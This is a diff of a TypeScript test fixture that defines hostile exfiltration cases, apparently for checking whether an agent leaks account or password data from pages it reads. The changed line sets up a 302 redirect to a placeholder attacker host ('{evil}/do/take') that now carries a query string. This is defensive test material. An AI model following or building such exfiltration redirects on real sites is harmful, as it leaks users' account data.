@@ -40,7 +40,7 @@ export const exfiltrationCases: readonly HostileCase[] = casesOf("exfiltration",
   ...CARRIERS.map((carrier, index) => ({
     honest: honestAt(index),
     ...(carrier.includes(WORD) && { mentions: MENTIONS_PASSWORD }),
-    pages: { "app/": `${SHOWS_ACCOUNT}${carrier}`, "app/out": "302 {evil}/do/take?from=app" },
+    pages: { "app/": `${SHOWS_ACCOUNT}${carrier}`, "app/out": "302 {evil}/do/take{query}" },
   })),
   { honest: "report", onlyPlaywright: true, pages: { "app/": FILES } },
 ]);
